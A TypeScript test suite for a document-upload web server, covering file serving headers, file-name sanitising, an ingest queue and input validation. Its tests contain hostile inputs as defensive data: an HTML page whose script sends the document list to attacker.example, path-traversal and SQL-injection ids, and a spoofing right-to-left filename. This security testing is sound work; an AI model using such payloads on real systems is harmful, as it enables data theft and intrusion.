import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, relative } from 'node:path';
import { getBuiltInProfile } from '@ragbridge/config-profiles';
import { createRuntime, type Runtime } from '@ragbridge/runtime';
import { writeSimplePdf } from '@ragbridge/testkit';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { testAppSettings } from './__fixtures__/app-settings.js';
import { parseSse } from './__fixtures__/sse.js';
import { createAppContext } from './app-context.js';
import { createApp } from './app.js';
import { IngestQueue } from './ingest-queue.js';
import type { JobEvent } from './jobs.js';
import { registerDocumentRoutes } from './routes/documents.js';
import { startServer } from './server.js';
import type { AppSettings } from './settings.js';
import {
  commitUpload,
  contentDisposition,
  displayName,
  MAX_DISPLAY_NAME_LENGTH,
  MAX_FILES_PER_UPLOAD,
  MAX_STORED_NAME_BYTES,
  safeFileName,
  stageUpload,
} from './uploads.js';

const ADMIN = 'files-admin-token-4711';
const encoder = new TextEncoder();

let runtime: Runtime;
let app: Hono;
let dataDir: string;
let corpusDir: string;
let uploadDir: string;

function settings(): AppSettings {
  return testAppSettings(uploadDir, ADMIN);
}

const deps = () => ({
  runtime,
  settings: settings(),
  publicDir: join(import.meta.dirname, '..', 'public'),
  pdfjsDir: dataDir,
  servableRoots: [corpusDir],
});

interface ListedDocument {
  id: string;
  name: string;
  title?: string;
  folder?: string;
  mediaType: string;
}

interface JobResult {
  event: string;
  report?: { added: string[]; updated: string[]; unchanged: string[]; failed: Array<{ file: string; code: string }> };
}

async function upload(
  files: Array<[name: string, bytes: Uint8Array | string]>,
  headers: Record<string, string> = {}
): Promise<Response> {
  const form = new FormData();
  for (const [name, bytes] of files)
    form.append(
      'file',
      new File([typeof bytes === 'string' ? encoder.encode(bytes) : (bytes as Uint8Array<ArrayBuffer>)], name)
    );
  return app.request('/api/documents', { method: 'POST', body: form, headers });
}

async function followJob(response: Response): Promise<JobResult> {
  expect(response.status).toBe(202);
  const { job } = (await response.json()) as { job: string };
  const events = parseSse(await (await app.request(`/api/jobs/${job}`)).text());
  const end = events.find((e) => e.event === 'done' || e.event === 'error');
  if (!end) throw new Error(`the job ended without a result: ${JSON.stringify(events)}`);
  return { event: end.event, ...(JSON.parse(end.data) as Omit<JobResult, 'event'>) };
}

async function uploadAndIngest(
  name: string,
  bytes: Uint8Array | string,
  headers: Record<string, string> = {}
): Promise<JobResult> {
  return followJob(await upload([[name, bytes]], headers));
}

async function listed(): Promise<ListedDocument[]> {
  return ((await (await app.request('/api/documents')).json()) as { documents: ListedDocument[] }).documents;
}

/** Every file under the upload folder, relative to it. */
function filesUnder(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return (
    readdirSync(folder, { recursive: true, withFileTypes: true }) as Array<{
      name: string;
      parentPath: string;
      isFile(): boolean;
    }>
  )
    .filter((e) => e.isFile())
    .map((e) => relative(folder, join(e.parentPath, e.name)))
    .sort();
}

/** The stored sources under the upload folder, relative to it. */
async function storedUploads(): Promise<string[]> {
  return (await runtime.pipeline.store.listDocuments())
    .map((d) => relative(uploadDir, d.source))
    .filter((p) => !p.startsWith('..'))
    .sort();
}

/** The name a `Content-Disposition` value gives in `filename*`. */
function extendedName(header: string | null): string {
  const encoded = /filename\*=UTF-8''([^;\s]+)/.exec(header ?? '')?.[1];
  if (encoded === undefined) throw new Error(`no filename* in ${header}`);
  return decodeURIComponent(encoded);
}

const pdf = (title: string, line: string) =>
  writeSimplePdf({ title, pages: [{ lines: [{ text: title, size: 18 }, line] }] });
const corruptPdf = new Uint8Array([
  ...encoder.encode('%PDF-1.7\n'),
  ...Array.from({ length: 2000 }, (_, i) => (i * 31) % 256),
]);

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'rb-demo-files-'));
  corpusDir = join(dataDir, 'corpus');
  uploadDir = join(dataDir, 'uploads');
  runtime = await createRuntime({
    config: getBuiltInProfile('offline'),
    env: {},
    baseDir: dataDir,
    storePath: join(dataDir, 'store.db'),
    ledgerPath: ':memory:',
  });
  app = createApp(deps());
}, 60_000);

afterAll(async () => {
  await runtime?.close();
});

describe('original files', () => {
  const attack = [
    '<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<title>Release notes</title></head><body><h1>Release notes</h1>',
    '<script>fetch("/api/documents").then((r) => r.text()).then((t) => navigator.sendBeacon("https://attacker.example/", t))</script>',
    '<p>Version 2 adds the export command.</p></body></html>',
  ].join('');

  it('serves an uploaded HTML page as a plain-text download, never as text/html of this origin', async () => {
    expect((await uploadAndIngest('release-notes.html', attack)).report?.added).toEqual(['release-notes.html']);
    const doc = (await listed()).find((d) => d.name === 'release-notes.html');
    const file = await app.request(`/api/documents/${doc?.id as string}/file`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(
      /^attachment; filename="release-notes\.html"; filename\*=UTF-8''release-notes\.html$/
    );
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    // The bytes are the user's, unchanged: only how the browser treats them differs.
    expect(await file.text()).toBe(attack);
  });

  it('serves Markdown and text as plain-text downloads and PDFs inline', async () => {
    await uploadAndIngest('guide.md', '# Guide\n\n<script>alert(1)</script> Use the export command.');
    await uploadAndIngest('notes.txt', 'Plain notes about the export command.');
    await uploadAndIngest('export.pdf', pdf('Export manual', 'The export command writes CSV.'));
    const docs = await listed();
    for (const name of ['guide.md', 'notes.txt']) {
      const file = await app.request(`/api/documents/${docs.find((d) => d.name === name)?.id as string}/file`);
      expect(file.headers.get('content-type'), name).toBe('text/plain; charset=utf-8');
      expect(file.headers.get('content-disposition'), name).toMatch(/^attachment;/);
    }
    const file = await app.request(`/api/documents/${docs.find((d) => d.name === 'export.pdf')?.id as string}/file`);
    expect(file.headers.get('content-type')).toBe('application/pdf');
    expect(file.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('every original is served with a sandbox policy, which the app-wide security headers keep', async () => {
    const docs = await listed();
    for (const name of ['release-notes.html', 'export.pdf']) {
      const file = await app.request(`/api/documents/${docs.find((d) => d.name === name)?.id as string}/file`);
      expect(file.status, name).toBe(200);
      expect(file.headers.get('content-security-policy'), name).toBe("sandbox; default-src 'none'");
    }
    // Everything else gets the app's page policy.
    expect((await app.request('/api/documents')).headers.get('content-security-policy')).toMatch(/^default-src 'self'/);
  });

  it('names any file in Content-Disposition: an ASCII fallback and the exact UTF-8 name', async () => {
    const names = [
      '設計書 第2版.md',
      '📄 notes 👍🏽.md',
      'say "hi".md',
      'back\\slash.md',
      'two\r\nlines.md',
      'tab\there.md',
      '100% ümlaut.md',
    ];
    mkdirSync(corpusDir, { recursive: true });
    for (const name of names)
      writeFileSync(join(corpusDir, name), `# ${name.replace(/\s+/g, ' ')}\n\nA corpus file with an unusual name.`);
    const report = await runtime.pipeline.ingest(names.map((n) => join(corpusDir, n)));
    expect(report.failed).toEqual([]);
    const docs = await listed();
    for (const name of names) {
      const doc = docs.find((d) => d.name === name);
      const file = await app.request(`/api/documents/${doc?.id as string}/file`);
      expect(file.status, name).toBe(200);
      const header = file.headers.get('content-disposition') ?? '';
      expect(header, name).toMatch(
        /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%!#$&+\-.^_`|~]+$/
      );
      const fallback = /filename="(.*)"; /.exec(header)?.[1] ?? '';
      expect(fallback, name).not.toMatch(/["\\%]/);
      // The exact name, with only characters that cannot be in a saved name replaced.
      expect(extendedName(header), name).toBe(name.replace(/[\r\n\t\\]/g, '_'));
    }
  });

  it('keeps direction controls and lone surrogates out of the header', () => {
    const header = contentDisposition('attachment', 'invoice\u202Etxt.exe\uD800.md');
    expect(() => new Headers({ 'content-disposition': header })).not.toThrow();
    expect(extendedName(header)).toBe('invoice_txt.exe_.md');
    expect(contentDisposition('inline', 'café.pdf')).toBe(
      `inline; filename="cafe.pdf"; filename*=UTF-8''caf%C3%A9.pdf`
    );
    expect(contentDisposition('inline', "it's (final)*.pdf")).toBe(
      `inline; filename="it's (final)*.pdf"; filename*=UTF-8''it%27s%20%28final%29%2A.pdf`
    );
  });
});

describe('uploaded file names', () => {
  const adminHeaders = { authorization: `Bearer ${ADMIN}` };

  it('lists a CJK name over 255 bytes whole, stored under a capped file name in a folder of its own', async () => {
    const name = `${'設計書'.repeat(30)}.md`;
    expect(encoder.encode(name).length).toBeGreaterThan(255);
    const result = await uploadAndIngest(name, '# 設計\n\nThe design of the export command.');
    expect(result.report?.added).toEqual([name]);
    const doc = (await listed()).find((d) => d.name === name);
    const file = await app.request(`/api/documents/${doc?.id as string}/file`);
    expect(file.status).toBe(200);
    expect(extendedName(file.headers.get('content-disposition'))).toBe(name);
    const source = (await runtime.pipeline.store.getDocument(doc?.id as string))?.source as string;
    expect(basename(source)).toBe(safeFileName(name));
    for (const path of filesUnder(uploadDir))
      for (const part of path.split('/'))
        expect(encoder.encode(part).length).toBeLessThanOrEqual(MAX_STORED_NAME_BYTES);
  });

  it('shows the name the user gave, in NFC and without control characters, even where the file name differs', async () => {
    const cases: [[given: string, shown: string], ...Array<[given: string, shown: string]>] = [
      ['Q3 report: "final" <draft> #2?.md', 'Q3 report: "final" <draft> #2?.md'],
      ['cafe\u0301 notes.md', 'caf\u00e9 notes.md'],
      ['two\r\nlines\u0007 \u202Eevil.md', 'two  lines evil.md'],
    ];
    // Characters a file name cannot safely hold: the stored file has another name than the document.
    expect(safeFileName(cases[0][0])).not.toBe(cases[0][1]);
    for (const [given, shown] of cases) {
      const result = await uploadAndIngest(given, `# Notes\n\nNotes uploaded as ${given.length} characters.`);
      expect(result.report?.added, given).toEqual([shown]);
      const doc = (await runtime.pipeline.store.listDocuments()).find((d) => d.name === shown);
      expect(doc, given).toBeDefined();
      expect(basename(doc?.source as string), given).toBe(safeFileName(given));
    }
  });

  it('caps a display name at 200 characters, keeping the extension', async () => {
    const long = `${'設計書'.repeat(100)}.md`;
    const shown = displayName(long);
    expect([...shown]).toHaveLength(MAX_DISPLAY_NAME_LENGTH);
    expect(shown).toMatch(/^(設計書)+設?計?…\.md$/);
    expect(displayName(`${'👍🏽'.repeat(300)}.PDF`)).toMatch(/^(👍🏽)+…\.PDF$/u);
    expect(displayName('C:\\Users\\me\\Desktop\\plan.md')).toBe('plan.md');
    expect(displayName('\u0000.md')).toBe('document.md');
    expect((await uploadAndIngest(long, '# Long\n\nA long name.')).report?.added).toEqual([shown]);
  });

  it('decides who replaces what by the name shown: anyone else adds a document, an admin replaces it', async () => {
    const name = 'Budget: 2027 <v1>.md';
    await uploadAndIngest(name, '# Budget\n\nThe budget is ten.');
    const first = (await listed()).find((d) => d.name === name);
    // Another user's upload of the name is a document of its own.
    expect((await uploadAndIngest(name, '# Budget\n\nThe budget is eleven.')).report?.added).toEqual([name]);
    expect((await listed()).filter((d) => d.name === name)).toHaveLength(2);
    // Two documents share the name: the admin is asked which one.
    const ambiguous = await upload([[name, '# Budget\n\nThe budget is twelve.']], adminHeaders);
    expect(ambiguous.status).toBe(409);
    const second = (await listed()).find((d) => d.name === name && d.id !== first?.id);
    expect(
      (await app.request(`/api/documents/${second?.id as string}`, { method: 'DELETE', headers: adminHeaders })).status
    ).toBe(204);
    // The safe file name is not the name shown: no replacement.
    const safe = safeFileName(name);
    expect(safe).not.toBe(name);
    expect(
      (await uploadAndIngest(safe, '# Budget\n\nA file named like the stored one.', adminHeaders)).report?.added
    ).toEqual([safe]);
    const replaced = await uploadAndIngest(name, '# Budget\n\nThe budget is thirteen.', adminHeaders);
    expect(replaced.report?.updated).toEqual([name]);
    const after = (await listed()).filter((d) => d.name === name);
    expect(after.map((d) => d.id)).toEqual([first?.id]);
    const text = JSON.stringify(await (await app.request(`/api/documents/${first?.id as string}/text`)).json());
    expect(text).toContain('thirteen');
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });

  it('caps names by UTF-8 bytes on whole characters, keeping the extension', () => {
    const emoji = safeFileName(`${'👍🏽'.repeat(100)}.PDF`);
    expect(emoji.endsWith('.pdf')).toBe(true);
    expect(encoder.encode(emoji).length).toBeLessThanOrEqual(MAX_STORED_NAME_BYTES);
    // Whole grapheme clusters only: no lone surrogate, no thumb without its skin tone.
    expect(emoji.slice(0, -4)).toMatch(/^(👍🏽)+$/u);
    expect(safeFileName('नमस्ते दुनिया.md')).toBe('नमस्ते दुनिया.md');
    expect(safeFileName(`${'a'.repeat(300)}.markdown`)).toBe(`${'a'.repeat(MAX_STORED_NAME_BYTES - 9)}.markdown`);
  });
});

describe('uploads of a name already stored', () => {
  const adminHeaders = { authorization: `Bearer ${ADMIN}` };

  it('anyone else gets a separate document: the stored one keeps its content', async () => {
    await uploadAndIngest('policy.md', '# Policy\n\nRefunds take fourteen days.');
    const first = (await listed()).find((d) => d.name === 'policy.md');
    const second = await uploadAndIngest('policy.md', '# Policy\n\nRefunds are never given.');
    expect(second.report?.added).toEqual(['policy.md']);
    const both = (await listed()).filter((d) => d.name === 'policy.md');
    expect(both).toHaveLength(2);
    expect(both.map((d) => d.id)).toContain(first?.id);
    expect(new Set(both.map((d) => d.folder)).size).toBe(2);
    const text = JSON.stringify(await (await app.request(`/api/documents/${first?.id as string}/text`)).json());
    expect(text).toContain('fourteen days');
    expect(text).not.toContain('never given');
  });

  it('an admin replaces it: a new version of the same document', async () => {
    await uploadAndIngest('handbook.md', '# Handbook\n\nThe office opens at nine.');
    const before = (await listed()).find((d) => d.name === 'handbook.md');
    const result = await uploadAndIngest('handbook.md', '# Handbook\n\nThe office opens at eight.', adminHeaders);
    expect(result.report?.updated).toEqual(['handbook.md']);
    const after = (await listed()).filter((d) => d.name === 'handbook.md');
    expect(after.map((d) => d.id)).toEqual([before?.id]);
    const text = JSON.stringify(await (await app.request(`/api/documents/${before?.id as string}/text`)).json());
    expect(text).toContain('opens at eight');
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });

  it('a wrong token is refused, not taken for an anonymous upload; an ambiguous name asks the admin to choose', async () => {
    const count = (await listed()).length;
    const wrong = await upload([['handbook.md', '# Handbook\n\nClosed forever.']], {
      authorization: 'Bearer not-the-token',
    });
    expect(wrong.status).toBe(403);
    const ambiguous = await upload([['policy.md', '# Policy\n\nRefunds take a year.']], adminHeaders);
    expect(ambiguous.status).toBe(409);
    expect(((await ambiguous.json()) as { error: { code: string } }).error.code).toBe('ambiguous');
    expect((await listed()).length).toBe(count);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });
});

describe('failed uploads', () => {
  it('an upload whose ingest fails leaves no file behind and the stored documents unchanged', async () => {
    const before = await runtime.pipeline.store.listDocuments();
    const result = await uploadAndIngest('broken.pdf', corruptPdf);
    expect(result.report?.failed).toEqual([expect.objectContaining({ file: 'broken.pdf', code: 'corrupt' })]);
    expect(await runtime.pipeline.store.listDocuments()).toEqual(before);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });

  it('a failed replacement puts the earlier file back: the document and its file still agree', async () => {
    const original = pdf('Spec', 'The spec fixes the wire format.');
    await uploadAndIngest('spec.pdf', original);
    const doc = (await runtime.pipeline.store.listDocuments()).find((d) => d.name === 'spec.pdf');
    const result = await uploadAndIngest('spec.pdf', corruptPdf, { authorization: `Bearer ${ADMIN}` });
    expect(result.report?.failed).toEqual([expect.objectContaining({ file: 'spec.pdf', code: 'corrupt' })]);
    expect(await runtime.pipeline.store.getDocument(doc?.id as string)).toEqual(doc);
    expect(new Uint8Array(readFileSync(doc?.source as string))).toEqual(original);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });
  it('an upload whose body breaks off is refused and leaves nothing behind', async () => {
    const before = filesUnder(uploadDir);
    const form = new FormData();
    form.append('file', new File([pdf('Cut', 'This upload never arrives whole.') as Uint8Array<ArrayBuffer>], 'cut.pdf'));
    const whole = new Uint8Array(await new Response(form).arrayBuffer());
    const type = new Response(form).headers.get('content-type') as string;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(whole.subarray(0, whole.length >> 1));
        controller.error(new Error('the connection broke off'));
      },
    });
    const response = await app.request('/api/documents', {
      method: 'POST',
      body,
      headers: { 'content-type': type, 'content-length': String(whole.length) },
      duplex: 'half',
    } as RequestInit);
    expect(response.status).toBe(400);
    expect(filesUnder(uploadDir)).toEqual(before);
  });
});

describe('the ingest queue', () => {
  /** Events of one job in the order they were emitted, and the job's end. */
  interface FollowedJob {
    label: string;
    events: JobEvent[];
    ended: Promise<JobEvent>;
  }

  it('ingests uploads one at a time in order with one worker; a full line is refused and stores nothing', async () => {
    const ingests = new IngestQueue({ maxWaiting: 3 });
    const ctx = createAppContext(deps());
    const routes = new Hono();
    registerDocumentRoutes(routes, ctx, { ingests });
    const post = (name: string, bytes: Uint8Array | string) => {
      const form = new FormData();
      form.append(
        'file',
        new File([typeof bytes === 'string' ? encoder.encode(bytes) : (bytes as Uint8Array<ArrayBuffer>)], name)
      );
      return routes.request('/api/documents', { method: 'POST', body: form });
    };

    // Every ingest call and every job event, in the order they happen.
    const log: string[] = [];
    const pipeline = runtime.pipeline;
    const realIngest = pipeline.ingest.bind(pipeline);
    const calls: Array<{ names: string[]; workers?: number; before: unknown; after?: unknown }> = [];
    let openGate: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => (openGate = resolve));
    const spy = vi.spyOn(pipeline, 'ingest').mockImplementation(async (paths, options) => {
      const names = paths.map((p) => options?.names?.get(p) ?? basename(p));
      const call: (typeof calls)[number] = {
        names,
        ...(options?.workers !== undefined && { workers: options.workers }),
        before: await pipeline.store.listDocuments(),
      };
      calls.push(call);
      log.push(`ingest ${names.join()}`);
      // The first job holds the line until every upload is posted.
      if (calls.length === 1) await gate;
      try {
        if (names.includes('explodes.md')) throw new Error('the disk is full');
        return await realIngest(paths, options);
      } finally {
        call.after = await pipeline.store.listDocuments();
        log.push(`ingested ${names.join()}`);
      }
    });
    const follow = async (label: string, response: Response): Promise<FollowedJob> => {
      expect(response.status, label).toBe(202);
      const { job } = (await response.json()) as { job: string };
      const events: JobEvent[] = [];
      let end: (event: JobEvent) => void = () => undefined;
      const ended = new Promise<JobEvent>((resolve) => (end = resolve));
      const onEvent = (event: JobEvent) => {
        events.push(event);
        log.push(`${label} ${event.event === 'progress' ? event.data.stage : event.event}`);
        if (event.event !== 'progress') end(event);
      };
      const followed = ctx.jobs.follow(job, onEvent);
      for (const event of followed?.replayed ?? []) onEvent(event);
      return { label, events, ended };
    };

    try {
      const pages = writeSimplePdf({
        title: 'Handbook',
        pages: Array.from({ length: 30 }, (_, i) => ({
          lines: [`Page ${i + 1} of the handbook covers topic ${i + 1}.`],
        })),
      });
      const handbook = await follow('handbook', await post('Handbook: part 1.pdf', pages));
      const broken = await follow('broken', await post('broken.pdf', corruptPdf));
      const explodes = await follow('explodes', await post('explodes.md', '# Boom\n\nNever stored.'));
      const last = await follow('last', await post('after the failures.md', '# After\n\nStored after two failures.'));

      // One running, three waiting: the next upload is refused before anything is written.
      const filesBefore = filesUnder(uploadDir);
      const refused = await post('one too many.md', '# Too many');
      expect(refused.status).toBe(429);
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('queue_full');
      expect(filesUnder(uploadDir)).toEqual(filesBefore);
      // The waiting uploads are on disk under temporary names, moved into place on their turn.
      expect(filesBefore.filter((f) => f.endsWith('.part'))).toHaveLength(3);

      openGate();
      const ends = await Promise.all([handbook, broken, explodes, last].map((job) => job.ended));

      // One ingest call at a time, in the order posted, each with one extraction worker.
      expect(calls.map((c) => c.names)).toEqual([
        ['Handbook: part 1.pdf'],
        ['broken.pdf'],
        ['explodes.md'],
        ['after the failures.md'],
      ]);
      expect(calls.map((c) => c.workers)).toEqual([1, 1, 1, 1]);
      for (const [i, call] of calls.slice(1).entries())
        expect(log.indexOf(`ingest ${call.names.join()}`)).toBeGreaterThan(
          log.indexOf(`ingested ${calls[i]?.names.join() ?? ''}`)
        );
      // A job's extraction starts only after the job before it ended.
      for (const [before, after] of [
        ['handbook done', 'broken extract'],
        ['broken done', 'explodes error'],
        ['explodes error', 'last extract'],
      ] as const)
        expect(log.indexOf(after), after).toBeGreaterThan(log.indexOf(before));

      // Places in line as the line moves.
      const positions = (job: FollowedJob) =>
        job.events.flatMap((e) => (e.event === 'progress' && e.data.stage === 'queued' ? [e.data.position] : []));
      expect(positions(handbook)).toEqual([]);
      expect(positions(broken)).toEqual([1]);
      expect(positions(explodes)).toEqual([2, 1]);
      expect(positions(last)).toEqual([3, 2, 1]);

      // The PDF's pages while it is read, then the file, under the name the user gave.
      const progress = handbook.events.flatMap((e) => (e.event === 'progress' ? [e.data] : []));
      expect(progress.map((p) => p.stage).filter((stage, i, all) => stage !== all[i - 1])).toEqual(
        expect.arrayContaining(['upload', 'extract'])
      );
      const byPage = progress.filter((p) => p.unit === 'page');
      expect(byPage.at(-1)).toMatchObject({ stage: 'extract', file: 'Handbook: part 1.pdf', done: 30, total: 30 });
      const byFile = progress.filter((p) => p.stage === 'extract' && p.unit === 'file');
      expect(byFile.at(-1)).toMatchObject({ file: 'Handbook: part 1.pdf', done: 1, total: 1, status: 'added' });
      expect(progress.indexOf(byPage.at(-1) as (typeof progress)[number])).toBeLessThan(
        progress.indexOf(byFile.at(-1) as (typeof progress)[number])
      );

      // A file that fails and a job that fails as a whole stop nothing, and change no stored document.
      expect(ends.map((e) => e.event)).toEqual(['done', 'done', 'error', 'done']);
      const report = (e: JobEvent) => (e.data as { report: NonNullable<JobResult['report']> }).report;
      expect(report(ends[0] as JobEvent).added).toEqual(['Handbook: part 1.pdf']);
      expect(report(ends[1] as JobEvent).failed).toEqual([
        expect.objectContaining({ file: 'broken.pdf', code: 'corrupt' }),
      ]);
      expect(ends[2]?.data).toEqual({ message: 'ingestion failed; the documents already stored are unchanged' });
      expect(report(ends[3] as JobEvent).added).toEqual(['after the failures.md']);
      expect(calls[1]?.after).toEqual(calls[1]?.before);
      expect(calls[2]?.after).toEqual(calls[2]?.before);
      expect(filesUnder(uploadDir)).toEqual(await storedUploads());
      expect(ingests.state).toEqual({ waiting: 0, running: false });
    } finally {
      openGate();
      spy.mockRestore();
    }
  });
});

describe('client input on the document routes', () => {
  it('takes page numbers only as plain decimal numbers', async () => {
    const id = (await listed()).find((d) => d.name === 'export.pdf')?.id as string;
    for (const page of ['0x1', '1e0', '01', '+1', '1.0', '%201', '0', '-1', '12345678', 'one']) {
      const response = await app.request(`/api/documents/${id}/pages/${page}`);
      expect(response.status, page).toBe(400);
      expect(((await response.json()) as { error: { code: string } }).error.code, page).toBe('bad_request');
    }
    expect((await app.request(`/api/documents/${id}/pages/1`)).status).toBe(200);
    expect((await app.request(`/api/documents/${id}/pages/9999999`)).status).toBe(404);
  });

  it('answers odd ids with 404, never a server error', async () => {
    const ids = [
      '%00',
      '..%2F..%2Fetc%2Fpasswd',
      '%E0%A4%A',
      "x'%20OR%201=1--",
      '%F0%9F%93%84',
      'x'.repeat(20_000),
      '%25',
      '.',
      '..',
    ];
    for (const id of ids) {
      for (const suffix of ['', '/file', '/text', '/pages/1']) {
        const response = await app.request(`/api/documents/${id}${suffix}`);
        expect(response.status, `${id.slice(0, 30)}${suffix}`).toBeLessThan(500);
      }
    }
  });

  it('refuses malformed uploads with a 4xx and stores nothing', async () => {
    const before = await runtime.pipeline.store.listDocuments();
    const filesBefore = filesUnder(uploadDir);
    const form = (build: (f: FormData) => void) => {
      const f = new FormData();
      build(f);
      return f;
    };
    const attempts: Array<[string, RequestInit, number]> = [
      ['no file field', { body: form((f) => f.append('other', new File(['x'], 'a.md'))) }, 400],
      ['a text field named file', { body: form((f) => f.append('file', 'just text')) }, 400],
      ['JSON', { body: '{"file":"a.md"}', headers: { 'content-type': 'application/json' } }, 400],
      ['multipart without a boundary', { body: 'x', headers: { 'content-type': 'multipart/form-data' } }, 400],
      [
        'multipart that is not',
        { body: 'garbage', headers: { 'content-type': 'multipart/form-data; boundary=zzz' } },
        400,
      ],
      ['no content type', { body: 'x' }, 400],
      ['a zero-byte file', { body: form((f) => f.append('file', new File([], 'empty.md'))) }, 400],
      [
        'a file without a name (sent as a text field)',
        { body: form((f) => f.append('file', new File(['x'], ''))) },
        400,
      ],
      ['a name that is only an extension', { body: form((f) => f.append('file', new File(['x'], '.md'))) }, 415],
      [
        'too many files',
        {
          body: form((f) =>
            Array.from({ length: MAX_FILES_PER_UPLOAD + 1 }, (_, i) =>
              f.append('file', new File([`# ${i}`], `many-${i}.md`))
            )
          ),
        },
        400,
      ],
      [
        'a good file with a bad one',
        {
          body: form(
            (f) => (f.append('file', new File(['# ok'], 'good.md')), f.append('file', new File([], 'bad.md')))
          ),
        },
        400,
      ],
      [
        'a non-bearer authorization',
        { body: form((f) => f.append('file', new File([], 'x.md'))), headers: { authorization: 'Basic dXNlcjpwYXNz' } },
        400,
      ],
    ];
    for (const [what, init, status] of attempts) {
      const response = await app.request('/api/documents', { method: 'POST', ...init });
      expect(response.status, what).toBe(status);
      expect(((await response.json()) as { error: { message: string } }).error.message, what).toBeTruthy();
    }
    expect(await runtime.pipeline.store.listDocuments()).toEqual(before);
    expect(filesUnder(uploadDir)).toEqual(filesBefore);
  });
});

describe('the document list', () => {
  it('sorts names case-insensitively and tells apart documents of the same name by folder and title', async () => {
    for (const [path, text] of [
      ['apple.md', '# Apple\n\nFruit.'],
      ['Banana.md', '# Banana\n\nFruit.'],
      ['cherry.md', '# Cherry\n\nFruit.'],
      ['packages/alpha/README.md', '# Alpha package\n\nThe first package.'],
      ['packages/beta/README.md', '# Beta package\n\nThe second package.'],
    ] as const) {
      mkdirSync(join(corpusDir, path, '..'), { recursive: true });
      writeFileSync(join(corpusDir, path), text);
    }
    await runtime.pipeline.ingest([corpusDir]);
    const body = await (await app.request('/api/documents')).text();
    expect(body).not.toContain(dataDir);
    const docs = (JSON.parse(body) as { documents: ListedDocument[] }).documents;
    const names = docs.map((d) => d.name);
    expect(names.indexOf('apple.md')).toBeLessThan(names.indexOf('Banana.md'));
    expect(names.indexOf('Banana.md')).toBeLessThan(names.indexOf('cherry.md'));
    const readmes = docs.filter((d) => d.name === 'README.md').map((d) => ({ folder: d.folder, title: d.title }));
    expect(readmes).toEqual([
      { folder: 'packages/alpha', title: 'Alpha package' },
      { folder: 'packages/beta', title: 'Beta package' },
    ]);
    expect(docs.find((d) => d.name === 'apple.md')?.folder).toBe('');
  });
});

describe('start-up', () => {
  it('removes temporary and orphan files from the upload folder and puts back a file an interrupted replacement set aside', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rb-demo-startup-'));
    const start = () =>
      startServer({
        resolve: { profile: 'offline', env: { HOST: '127.0.0.1' }, cwd: dir },
        dataDir: dir,
        port: 0,
        sampleCorpus: false,
        log: () => undefined,
      });
    const uploads = join(dir, 'uploads');
    const first = await start();
    let keptSource: string;
    const kept = '# Kept\n\nThe stored version.';
    try {
      const staged = await stageUpload(uploads, 'kept.md', encoder.encode(kept));
      await commitUpload(staged, undefined);
      await first.runtime.pipeline.ingest([staged.target]);
      keptSource = staged.target;
      const stored = await first.runtime.pipeline.store.getDocumentBySource(keptSource);
      // Crashes: a replacement moved into place but never ingested, an upload never moved into place.
      await commitUpload(
        await stageUpload(uploads, 'kept.md', encoder.encode('# Kept\n\nA version never stored.'), stored),
        stored
      );
      await stageUpload(uploads, 'half.md', encoder.encode('# Half'));
      // Left-overs of earlier versions: a temporary file beside its target, a file whose ingest failed.
      writeFileSync(join(uploads, 'old.pdf.3f1c.part'), '%PDF-1.7');
      writeFileSync(join(uploads, 'failed.pdf'), corruptPdf);
      mkdirSync(join(uploads, 'abc123'));
      writeFileSync(join(uploads, 'abc123', 'orphan.txt'), 'nobody');
      writeFileSync(join(uploads, 'notes.json'), '{}');
    } finally {
      await first.close();
    }
    const second = await start();
    try {
      expect(filesUnder(uploads)).toEqual([relative(uploads, keptSource), 'notes.json']);
      expect(readFileSync(keptSource, 'utf8')).toBe(kept);
      expect(readdirSync(uploads).sort()).toEqual([relative(uploads, keptSource).split('/')[0], 'notes.json'].sort());
    } finally {
      await second.close();
    }
  }, 60_000);
});
